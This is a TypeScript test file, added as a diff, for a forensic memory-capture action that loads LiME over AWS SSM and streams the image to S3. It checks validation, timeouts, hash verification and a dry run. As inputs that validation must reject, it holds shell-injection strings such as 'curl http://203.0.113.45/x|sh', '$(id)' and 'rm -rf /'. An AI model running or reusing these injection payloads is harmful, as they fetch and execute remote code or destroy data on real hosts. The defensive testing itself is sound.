@@ -1,0 +1,509 @@
+/**
+ * capture-memory. EC2 and S3 are moto (the instance, the LiME module bucket, the image, its hash
+ * and the capture record are real objects). SSM is moto only where it is faithful; everything
+ * that needs real SSM output or failures uses aws-sdk-client-mock, because the emulator runs
+ * nothing and returns EMPTY output (test/support/moto/GAPS.md): the kernel release, polling
+ * InProgress → Success, a missing module, a capture timeout, a malicious `uname` answer. The
+ * capture script itself is run for real under `sh`, with stand-ins for aws, insmod and ncat.
+ */
+import { execFileSync, spawnSync } from 'node:child_process';
+import { createHash, randomBytes, randomInt } from 'node:crypto';
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { RunInstancesCommand, StopInstancesCommand } from '@aws-sdk/client-ec2';
+import { CreateBucketCommand, GetObjectCommand, ListObjectsV2Command, PutObjectCommand } from '@aws-sdk/client-s3';
+import {
+  DescribeInstanceInformationCommand,
+  GetCommandInvocationCommand,
+  SendCommandCommand,
+  type GetCommandInvocationCommandOutput,
+  type SendCommandCommandInput,
+} from '@aws-sdk/client-ssm';
+import { mockClient } from 'aws-sdk-client-mock';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { createAwsClients, destroyAwsClients, type AwsClients } from '../../../src/aws/clients.js';
+import {
+  captureMemory,
+  captureMemoryAction,
+  captureMemoryScript,
+  memoryRecordKey,
+  UNAME_COMMAND,
+  type CaptureMemoryDetails,
+  type CaptureScriptParams,
+} from '../../../src/pipeline/actions/captureMemory.js';
+import type { ActionDeps } from '../../../src/pipeline/actions/types.js';
+import { invokeAction } from '../../../src/pipeline/invokeAction.js';
+import { ValidationError } from '../../../src/errors.js';
+import { testDeps, testSettings } from '../../helpers/deps.js';
+import { anyAmiId, createMotoClients, createVpcWithSubnet, MOTO_REGION, uniqueName } from '../../support/aws.js';
+
+const sha = (s: string | Buffer) => createHash('sha256').update(s).digest('hex');
+const HOSTILE = "inc-7; curl http://203.0.113.45/x|sh #$(id)`whoami`'";
+const RELEASE = '5.10.220-209.869.amzn2.x86_64';
+const NOW = new Date('2026-11-20T03:20:00.000Z');
+const ATTEMPT = '20261120T032000Z';
+
+let aws: AwsClients;
+let evidenceBucket: string;
+let limeBucket: string;
+const unit = createAwsClients({ region: MOTO_REGION, credentials: { accessKeyId: 'unit', secretAccessKey: 'unit' } });
+const ssm = mockClient(unit.ssm);
+const MODULE = randomBytes(4096);
+
+beforeAll(async () => {
+  aws = createMotoClients();
+  evidenceBucket = uniqueName('mem-evidence');
+  limeBucket = uniqueName('lime-modules');
+  for (const Bucket of [evidenceBucket, limeBucket]) {
+    await aws.s3.send(new CreateBucketCommand({ Bucket, CreateBucketConfiguration: { LocationConstraint: MOTO_REGION } }));
+  }
+  await aws.s3.send(new PutObjectCommand({ Bucket: limeBucket, Key: `lime/${RELEASE}/lime.ko`, Body: MODULE, Metadata: { sha256: sha(MODULE) } }));
+});
+afterAll(() => {
+  destroyAwsClients(aws);
+  destroyAwsClients(unit);
+});
+afterEach(() => ssm.reset());
+
+async function launch(): Promise<string> {
+  const { subnetId } = await createVpcWithSubnet(aws.ec2);
+  const run = await aws.ec2.send(new RunInstancesCommand({ ImageId: await anyAmiId(aws.ec2), InstanceType: 't3.micro', MinCount: 1, MaxCount: 1, SubnetId: subnetId }));
+  return run.Instances![0]!.InstanceId!;
+}
+
+function depsWith(ssmClient: 'moto' | 'mock'): ActionDeps {
+  return testDeps({ aws: { ...aws, ...(ssmClient === 'mock' ? { ssm: unit.ssm } : {}) }, settings: testSettings({ evidenceBucket, collector: 'sentinel-test' }), now: () => NOW });
+}
+
+function fakePoll() {
+  let t = 0;
+  return { poll: { sleep: async (ms: number) => void (t += ms), now: () => t } };
+}
+
+const input = (instanceId: string, extra: Record<string, unknown> = {}) => ({ instanceId, limeModuleBucket: limeBucket, limeModulePrefix: 'lime/', timeoutSeconds: 600, ...extra });
+
+async function getText(bucket: string, key: string): Promise<string | undefined> {
+  try {
+    const out = await aws.s3.send(new GetObjectCommand({ Bucket: bucket, Key: key }));
+    return await out.Body!.transformToString();
+  } catch {
+    return undefined;
+  }
+}
+
+async function listKeys(prefix: string): Promise<string[]> {
+  const out = await aws.s3.send(new ListObjectsV2Command({ Bucket: evidenceBucket, Prefix: prefix }));
+  return (out.Contents ?? []).map((c) => c.Key!);
+}
+
+type Answer = Partial<GetCommandInvocationCommandOutput>;
+const ok = (stdout: string): Answer => ({ Status: 'Success', ResponseCode: 0, StandardOutputContent: stdout, StandardErrorContent: '' });
+
+/**
+ * Plays SSM: `uname -r` gets `unameAnswer`; the capture script gets `captureAnswers` in order
+ * (the last repeats), after `onCapture` ran (which plays the instance's uploads).
+ */
+function scriptSsm(instanceId: string, opts: { uname: Answer; capture?: Answer[]; onCapture?: (script: string[]) => Promise<void> }) {
+  const sent: SendCommandCommandInput[] = [];
+  const queues = new Map<string, Answer[]>();
+  ssm.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: instanceId, PingStatus: 'Online' }] });
+  ssm.on(SendCommandCommand).callsFake(async (cmd: SendCommandCommandInput) => {
+    sent.push(cmd);
+    const commands = cmd.Parameters!.commands!;
+    const commandId = `cmd-${sent.length}`;
+    if (commands.length === 1 && commands[0] === UNAME_COMMAND) {
+      queues.set(commandId, [{ Status: 'InProgress' }, opts.uname]);
+    } else {
+      await opts.onCapture?.(commands);
+      queues.set(commandId, [{ Status: 'Pending' }, { Status: 'InProgress' }, ...(opts.capture ?? [ok('')])]);
+    }
+    return { Command: { CommandId: commandId, Status: 'Pending' } };
+  });
+  ssm.on(GetCommandInvocationCommand).callsFake((q: { CommandId: string }) => {
+    const queue = queues.get(q.CommandId)!;
+    return queue.length > 1 ? queue.shift()! : queue[0]!;
+  });
+  return sent;
+}
+
+/** Where the script streams the image and the hash (read from the script itself). */
+function targets(script: string[]): { bucket: string; imageKey: string; hashKey: string } {
+  const text = script.join('\n');
+  const image = /--expected-size "[^"]+" - 's3:\/\/([^/']+)\/([^']+)'/.exec(text)!;
+  const hash = /\| aws s3 cp --region '[^']+' --only-show-errors - 's3:\/\/[^/']+\/([^']+)'/.exec(text)!;
+  return { bucket: image[1]!, imageKey: image[2]!, hashKey: hash[1]! };
+}
+
+describe('against moto', () => {
+  it('moto SSM runs nothing and prints nothing: an honest KernelReleaseUnavailable, memoryCaptured false', async () => {
+    const instanceId = await launch();
+    const result = await invokeAction(captureMemoryAction, input(instanceId), { actor: 'cli', incidentId: uniqueName('inc') }, depsWith('moto'));
+    expect(result).toMatchObject({ status: 'failed', details: { error: 'KernelReleaseUnavailable', final: false, memoryCaptured: false } });
+  });
+
+  it('fails as NotFound for an unknown instance, and refuses a stopped one (its memory is gone)', async () => {
+    const missing = await invokeAction(captureMemoryAction, input('i-0000000000000dead'), { actor: 'cli', incidentId: 'inc-1' }, depsWith('mock'));
+    expect(missing).toMatchObject({ status: 'failed', details: { error: 'InstanceNotFound', final: true } });
+    const instanceId = await launch();
+    await aws.ec2.send(new StopInstancesCommand({ InstanceIds: [instanceId] }));
+    const stopped = await invokeAction(captureMemoryAction, input(instanceId), { actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'));
+    expect(stopped).toMatchObject({ status: 'failed', details: { error: 'InstanceNotRunning', final: true } });
+    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
+  });
+});
+
+describe('with mocked SSM (the emulator has no real output or failures)', () => {
+  it('captures: uname, module lookup, the fixed script, InProgress → Success, then verifies image and hash in S3; a rerun is skipped', async () => {
+    const instanceId = await launch();
+    const incidentId = `${HOSTILE}-${uniqueName('x')}`;
+    const memory = randomBytes(64 * 1024);
+    const memorySha = sha(memory);
+    const sent = scriptSsm(instanceId, {
+      uname: ok(`${RELEASE}\n`),
+      capture: [ok(`SENTINEL-MEMORY sha256=${memorySha}\n`)],
+      onCapture: async (script) => {
+        // Play the instance: the image and the hash file appear where the script streams them.
+        const t = targets(script);
+        await aws.s3.send(new PutObjectCommand({ Bucket: t.bucket, Key: t.imageKey, Body: memory }));
+        await aws.s3.send(new PutObjectCommand({ Bucket: t.bucket, Key: t.hashKey, Body: `${memorySha}  ${ATTEMPT}.lime\n` }));
+      },
+    });
+
+    const result = await captureMemory({ input: input(instanceId), actor: HOSTILE, incidentId, reason: HOSTILE }, depsWith('mock'), fakePoll());
+
+    expect(result.status).toBe('succeeded');
+    const details = result.details as CaptureMemoryDetails;
+    const prefix = memoryRecordKey(incidentId, instanceId).replace(/\/capture\.json$/, '');
+    expect(details).toMatchObject({
+      memoryCaptured: true,
+      alreadyCaptured: false,
+      kernelRelease: RELEASE,
+      module: `s3://${limeBucket}/lime/${RELEASE}/lime.ko`,
+      location: `s3://${evidenceBucket}/${prefix}/${ATTEMPT}.lime`,
+      sha256: memorySha,
+      size: memory.length,
+      ssmCommandId: 'cmd-2',
+    });
+    expect(details.evidence).toMatchObject({ kind: 'memory', location: details.location, sha256: memorySha, size: memory.length, source: { instanceId, kernelRelease: RELEASE } });
+    expect(result.summary).toContain(`kernel ${RELEASE}`);
+
+    // The capture record, write-once.
+    const record = JSON.parse((await getText(evidenceBucket, memoryRecordKey(incidentId, instanceId)))!);
+    expect(record).toMatchObject({ image: details.location, sha256: memorySha, size: memory.length, kernelRelease: RELEASE, moduleSha256: sha(MODULE), actor: HOSTILE });
+
+    // Exactly two commands: `uname -r`, then the script built only from validated values.
+    expect(sent).toHaveLength(2);
+    expect(sent[0]!.Parameters!.commands).toEqual(['uname -r']);
+    const script = sent[1]!.Parameters!.commands!;
+    expect(sent[1]).toMatchObject({ InstanceIds: [instanceId], DocumentName: 'AWS-RunShellScript', Parameters: { executionTimeout: ['600'] } });
+    expect(script).toEqual(
+      captureMemoryScript({
+        region: MOTO_REGION,
+        moduleBucket: limeBucket,
+        moduleKey: `lime/${RELEASE}/lime.ko`,
+        moduleSha256: sha(MODULE),
+        outputBucket: evidenceBucket,
+        imageKey: `${prefix}/${ATTEMPT}.lime`,
+        hashKey: `${prefix}/${ATTEMPT}.lime.sha256`,
+        port: 4444,
+        timeoutSeconds: 600,
+      }),
+    );
+    const everything = JSON.stringify(sent);
+    for (const fragment of ['$(id)', '`whoami`', '|sh', '; curl', HOSTILE]) expect(everything).not.toContain(fragment);
+    expect(script.join('\n')).toContain(`insmod "$WORK/lime.ko" 'path=tcp:4444' 'format=lime' 'localhostonly=1'`);
+    expect(script.join('\n')).toContain(`echo '${sha(MODULE)}  '"$WORK/lime.ko" | sha256sum -c --status -`);
+
+    // Rerun: already captured, nothing sent.
+    ssm.resetHistory();
+    const again = await invokeAction(captureMemoryAction, input(instanceId), { actor: 'cli', incidentId }, depsWith('mock'));
+    expect(again.status).toBe('skipped');
+    expect(again.details).toMatchObject({ memoryCaptured: true, alreadyCaptured: true, location: details.location, sha256: memorySha });
+    expect(again.summary).toContain('already captured');
+    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
+  });
+
+  it('stops with NoLimeModule naming the kernel release when no module exists for it, attempting nothing else', async () => {
+    const instanceId = await launch();
+    const incidentId = uniqueName('inc');
+    const sent = scriptSsm(instanceId, { uname: ok('6.1.119-129.201.amzn2023.x86_64\n') });
+    const result = await captureMemory({ input: input(instanceId), actor: 'cli', incidentId }, depsWith('mock'), fakePoll());
+    expect(result).toMatchObject({ status: 'failed', details: { error: 'NoLimeModule', final: true, memoryCaptured: false, kernelRelease: '6.1.119-129.201.amzn2023.x86_64' } });
+    expect(result.summary).toContain('6.1.119-129.201.amzn2023.x86_64');
+    expect(result.summary).toContain(`s3://${limeBucket}/lime/6.1.119-129.201.amzn2023.x86_64/lime.ko`);
+    expect(sent.map((s) => s.Parameters!.commands)).toEqual([['uname -r']]);
+    expect(await listKeys(`evidence/${incidentId}/`)).toEqual([]);
+  });
+
+  it.each([
+    '5.10.0; curl http://203.0.113.45/x | sh',
+    '$(id)',
+    '5.10.0`id`',
+    '5.10.0\nrm -rf /',
+    '../../etc',
+    '..',
+    '-rf',
+    'a'.repeat(101),
+  ])('refuses a malicious kernel release %j and sends nothing more', async (answer) => {
+    const instanceId = await launch();
+    const sent = scriptSsm(instanceId, { uname: ok(`${answer}\n`) });
+    const refusal = captureMemory({ input: input(instanceId), actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'), fakePoll());
+    await expect(refusal).rejects.toBeInstanceOf(ValidationError);
+    await expect(refusal).rejects.toMatchObject({ code: 'InvalidKernelRelease' });
+    expect(sent.map((s) => s.Parameters!.commands)).toEqual([['uname -r']]);
+  });
+
+  it('times out honestly: MemoryCaptureTimedOut, memoryCaptured false, no record written', async () => {
+    const instanceId = await launch();
+    const incidentId = uniqueName('inc');
+    scriptSsm(instanceId, { uname: ok(`${RELEASE}\n`), capture: [{ Status: 'InProgress' }] });
+    const result = await captureMemory({ input: input(instanceId, { timeoutSeconds: 60 }), actor: 'cli', incidentId }, depsWith('mock'), fakePoll());
+    expect(result).toMatchObject({ status: 'failed', details: { error: 'MemoryCaptureTimedOut', final: false, memoryCaptured: false } });
+    expect(result.summary).toContain('may still be running');
+    expect(await getText(evidenceBucket, memoryRecordKey(incidentId, instanceId))).toBeUndefined();
+
+    // SSM's own execution timeout is the same failure.
+    ssm.reset();
+    scriptSsm(instanceId, { uname: ok(`${RELEASE}\n`), capture: [{ Status: 'TimedOut', ResponseCode: -1 }] });
+    const timedOut = await captureMemory({ input: input(instanceId), actor: 'cli', incidentId }, depsWith('mock'), fakePoll());
+    expect(timedOut).toMatchObject({ status: 'failed', details: { error: 'MemoryCaptureTimedOut' } });
+  });
+
+  it('reports a failed script with the meaning of its exit code', async () => {
+    const instanceId = await launch();
+    scriptSsm(instanceId, {
+      uname: ok(`${RELEASE}\n`),
+      capture: [{ Status: 'Failed', ResponseCode: 15, StandardErrorContent: "insmod: ERROR: could not insert module /tmp/sentinel-lime.x/lime.ko: Invalid module format\nsentinel: insmod of the LiME module failed\n" }],
+    });
+    const result = await captureMemory({ input: input(instanceId), actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'), fakePoll());
+    expect(result).toMatchObject({ status: 'failed', details: { error: 'MemoryCaptureFailed', exitCode: 15, memoryCaptured: false } });
+    expect(result.summary).toContain('LiME did not start');
+    expect(result.summary).toContain('Invalid module format');
+  });
+
+  it('does not believe a "Success" without the image in S3, nor a hash that disagrees', async () => {
+    const instanceId = await launch();
+    scriptSsm(instanceId, { uname: ok(`${RELEASE}\n`), capture: [ok('')] });
+    const missing = await captureMemory({ input: input(instanceId), actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'), fakePoll());
+    expect(missing).toMatchObject({ status: 'failed', details: { error: 'MemoryImageMissing', memoryCaptured: false } });
+
+    ssm.reset();
+    const memory = randomBytes(1024);
+    scriptSsm(instanceId, {
+      uname: ok(`${RELEASE}\n`),
+      capture: [ok(`SENTINEL-MEMORY sha256=${'0'.repeat(64)}\n`)],
+      onCapture: async (script) => {
+        const t = targets(script);
+        await aws.s3.send(new PutObjectCommand({ Bucket: t.bucket, Key: t.imageKey, Body: memory }));
+        await aws.s3.send(new PutObjectCommand({ Bucket: t.bucket, Key: t.hashKey, Body: `${sha(memory)}  x.lime\n` }));
+      },
+    });
+    const mismatch = await captureMemory({ input: input(instanceId), actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'), fakePoll());
+    expect(mismatch).toMatchObject({ status: 'failed', details: { error: 'MemoryHashMismatch', memoryCaptured: false } });
+  });
+
+  it('dry run: describes the plan, sends and writes nothing', async () => {
+    const instanceId = await launch();
+    const incidentId = uniqueName('inc');
+    ssm.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: instanceId, PingStatus: 'Online' }] });
+    const result = await invokeAction(captureMemoryAction, input(instanceId), { actor: 'cli', incidentId, dryRun: true }, depsWith('mock'));
+    expect(result.status).toBe('skipped');
+    expect(result.details).toMatchObject({ dryRun: true, memoryCaptured: false });
+    expect(result.summary).toContain(`s3://${limeBucket}/lime/<kernel-release>/lime.ko`);
+    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
+    expect(await listKeys(`evidence/${incidentId}/`)).toEqual([]);
+  });
+
+  it('refuses bad buckets, prefixes and ports as invalid input', async () => {
+    for (const bad of [
+      { limeModuleBucket: 'Bad_Bucket' },
+      { limeModuleBucket: 'b; rm -rf /' },
+      { limeModulePrefix: 'lime/../../x' },
+      { limeModulePrefix: "lime'; id; '" },
+      { outputBucket: 'x' },
+      { port: 22 },
+      { timeoutSeconds: 5 },
+    ]) {
+      const result = await invokeAction(captureMemoryAction, input('i-0123456789abcdef0', bad), { actor: 'cli', incidentId: 'inc-1' }, depsWith('mock'));
+      expect(result).toMatchObject({ status: 'failed', details: { error: 'InvalidInput', final: true } });
+    }
+    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
+  });
+});
+
+describe('the capture script', () => {
+  const base: CaptureScriptParams = {
+    region: 'ap-northeast-2',
+    moduleBucket: 'lime-modules',
+    moduleKey: 'lime/5.10.0-1/lime.ko',
+    moduleSha256: 'a'.repeat(64),
+    outputBucket: 'evidence-bucket',
+    imageKey: 'evidence/inc-1/memory/i-0123456789abcdef0/20261120T032000Z.lime',
+    hashKey: 'evidence/inc-1/memory/i-0123456789abcdef0/20261120T032000Z.lime.sha256',
+    port: 4444,
+    timeoutSeconds: 600,
+  };
+
+  it('is a fixed template: only the validated values differ between two scripts', () => {
+    const other: CaptureScriptParams = {
+      region: 'us-east-1',
+      moduleBucket: 'other.modules',
+      moduleKey: 'm/6.1.0-x/lime.ko',
+      moduleSha256: 'b'.repeat(64),
+      outputBucket: 'other-evidence',
+      imageKey: 'evidence/inc-2/memory/i-0fedcba9876543210/20270101T000000Z.lime',
+      hashKey: 'evidence/inc-2/memory/i-0fedcba9876543210/20270101T000000Z.lime.sha256',
+      port: 5555,
+      timeoutSeconds: 60,
+    };
+    const blank = (p: CaptureScriptParams) =>
+      captureMemoryScript(p)
+        .join('\n')
+        .replaceAll(p.hashKey, 'HASHKEY')
+        .replaceAll(p.imageKey, 'IMAGEKEY')
+        .replaceAll(p.imageKey.split('/').pop()!, 'IMAGENAME')
+        .replaceAll(p.moduleKey, 'MODKEY')
+        .replaceAll(p.moduleSha256!, 'MODSHA')
+        .replaceAll(p.moduleBucket, 'MODBUCKET')
+        .replaceAll(p.outputBucket, 'OUTBUCKET')
+        .replaceAll(p.region, 'REGION')
+        .replaceAll(p.port.toString(16).toUpperCase().padStart(4, '0'), 'PORTHEX')
+        .replaceAll(String(p.port), 'PORT');
+    expect(blank(base)).toBe(blank(other));
+  });
+
+  it.each([
+    { moduleBucket: "b'; id; '" },
+    { moduleKey: 'lime/$(id)/lime.ko' },
+    { moduleKey: 'lime/../x' },
+    { imageKey: "x' y" },
+    { hashKey: '/abs' },
+    { moduleSha256: 'not-a-hash' },
+    { region: 'us-east-1; id' },
+    { port: 80 },
+  ])('refuses to build with %j', (bad) => {
+    expect(() => captureMemoryScript({ ...base, ...bad } as CaptureScriptParams)).toThrow(/refusing to build the capture script/);
+  });
+
+  it('is valid POSIX sh', () => {
+    const r = spawnSync('sh', ['-n', '-c', captureMemoryScript(base).join('\n')], { encoding: 'utf8' });
+    expect(r.stderr).toBe('');
+    expect(r.status).toBe(0);
+  });
+
+  describe('run under sh with stand-ins for aws, insmod, rmmod and ncat', () => {
+    const python = execFileSync('python3', ['-c', 'import sys; print(sys.executable)'], { encoding: 'utf8' }).trim();
+    let root: string;
+    let bin: string;
+    let s3: string;
+
+    beforeAll(() => {
+      root = mkdtempSync(join(tmpdir(), 'lime-run-'));
+      bin = join(root, 'bin');
+      s3 = join(root, 's3');
+      mkdirSync(bin);
+      const write = (name: string, text: string) => {
+        writeFileSync(join(bin, name), text);
+        chmodSync(join(bin, name), 0o755);
+      };
+      // aws s3 cp [options] SRC DST, with s3:// mapped to a directory; "-" is stdin.
+      write(
+        'aws',
+        [
+          '#!/bin/sh',
+          'echo "aws $*" >> "$FAKE_LOG"',
+          '[ "$1" = s3 ] && [ "$2" = cp ] || exit 2',
+          'shift 2',
+          'while [ $# -gt 0 ]; do case "$1" in --region|--expected-size) shift 2;; --only-show-errors) shift;; *) break;; esac; done',
+          'map() { case "$1" in s3://*) echo "$FAKE_S3/${1#s3://}";; *) echo "$1";; esac; }',
+          'if [ "$1" = - ]; then d=$(map "$2"); mkdir -p "$(dirname "$d")"; cat > "$d"; exit $?; fi',
+          's=$(map "$1"); [ -f "$s" ] || { echo "fatal error: An error occurred (404)" >&2; exit 1; }; cp "$s" "$2"',
+        ].join('\n'),
+      );
+      // insmod MODULE path=tcp:PORT format=lime localhostonly=1: serve FAKE_MEMORY to one client, like LiME.
+      write(
+        'insmod',
+        [
+          `#!${python}`,
+          'import os, socket, sys',
+          'log = open(os.environ["FAKE_LOG"], "a"); log.write("insmod " + " ".join(sys.argv[1:]) + "\\n"); log.close()',
+          'if os.environ.get("FAKE_INSMOD_FAIL"): sys.stderr.write("insmod: ERROR: could not insert module: Invalid module format\\n"); sys.exit(1)',
+          'port = int([a for a in sys.argv if a.startswith("path=tcp:")][0].split(":")[1])',
+          'assert "format=lime" in sys.argv and "localhostonly=1" in sys.argv',
+          's = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", port)); s.listen(1)',
+          'c, _ = s.accept()',
+          'c.sendall(open(os.environ["FAKE_MEMORY"], "rb").read()); c.close(); s.close()',
+        ].join('\n'),
+      );
+      write('rmmod', '#!/bin/sh\necho "rmmod $*" >> "$FAKE_LOG"\n');
+      // ncat --recv-only HOST PORT
+      write(
+        'ncat',
+        [
+          `#!${python}`,
+          'import socket, sys',
+          'assert sys.argv[1] == "--recv-only"',
+          'c = socket.create_connection((sys.argv[2], int(sys.argv[3])))',
+          'while True:',
+          '    b = c.recv(65536)',
+          '    if not b: break',
+          '    sys.stdout.buffer.write(b)',
+        ].join('\n'),
+      );
+    });
+    afterAll(() => rmSync(root, { recursive: true, force: true }));
+
+    function runScript(params: CaptureScriptParams, memory: Buffer, env: Record<string, string> = {}, withModule = true) {
+      const dir = mkdtempSync(join(root, 'run-'));
+      const s3dir = join(dir, 's3');
+      mkdirSync(join(s3dir, params.moduleBucket, dirname(params.moduleKey)), { recursive: true });
+      if (withModule) writeFileSync(join(s3dir, params.moduleBucket, params.moduleKey), MODULE);
+      writeFileSync(join(dir, 'memory'), memory);
+      const scriptFile = join(dir, '_script.sh');
+      writeFileSync(scriptFile, captureMemoryScript(params).join('\n'));
+      const r = spawnSync('sh', [scriptFile], {
+        encoding: 'utf8',
+        timeout: 20_000,
+        env: { PATH: `${bin}:/usr/bin:/bin`, FAKE_S3: s3dir, FAKE_LOG: join(dir, 'log'), FAKE_MEMORY: join(dir, 'memory'), ...env },
+      });
+      const read = (bucket: string, key: string) => (existsSync(join(s3dir, bucket, key)) ? readFileSync(join(s3dir, bucket, key)) : undefined);
+      return { ...r, read, log: existsSync(join(dir, 'log')) ? readFileSync(join(dir, 'log'), 'utf8') : '' };
+    }
+
+    const params = (): CaptureScriptParams => ({ ...base, moduleSha256: sha(MODULE), port: randomInt(20_000, 60_000) });
+
+    it('streams the image to S3 through sha256sum and uploads the matching hash', () => {
+      const memory = randomBytes(3 * 1024 * 1024 + 17);
+      const p = params();
+      const r = runScript(p, memory);
+      expect(r.stderr).toBe('');
+      expect(r.status).toBe(0);
+      const image = r.read(p.outputBucket, p.imageKey)!;
+      expect(image.equals(memory)).toBe(true);
+      expect(r.read(p.outputBucket, p.hashKey)!.toString()).toBe(`${sha(memory)}  20261120T032000Z.lime\n`);
+      expect(r.stdout).toBe(`SENTINEL-MEMORY sha256=${sha(memory)}\n`);
+      expect(r.log).toContain(`insmod /tmp/sentinel-lime.`);
+      expect(r.log).toContain(`path=tcp:${p.port} format=lime localhostonly=1`);
+      expect(r.log).toContain('rmmod lime');
+      expect(r.log).toContain("aws s3 cp --region ap-northeast-2 --only-show-errors --expected-size");
+    });
+
+    it('refuses a module whose sha256 differs (exit 13), before loading anything', () => {
+      const r = runScript({ ...params(), moduleSha256: 'c'.repeat(64) }, randomBytes(1024));
+      expect(r.status).toBe(13);
+      expect(r.stderr).toContain('does not match its sha256');
+      expect(r.log).not.toContain('insmod');
+    });
+
+    it('fails with 15 when insmod fails, and 12 when the module cannot be downloaded', () => {
+      const failed = runScript(params(), randomBytes(1024), { FAKE_INSMOD_FAIL: '1' });
+      expect(failed.status).toBe(15);
+      expect(failed.stderr).toContain('Invalid module format');
+      const missing = runScript(params(), randomBytes(1024), {}, false);
+      expect(missing.status).toBe(12);
+      expect(missing.stderr).toContain('cannot download the LiME module');
+      expect(missing.log).not.toContain('insmod');
+    });
+  });
+});
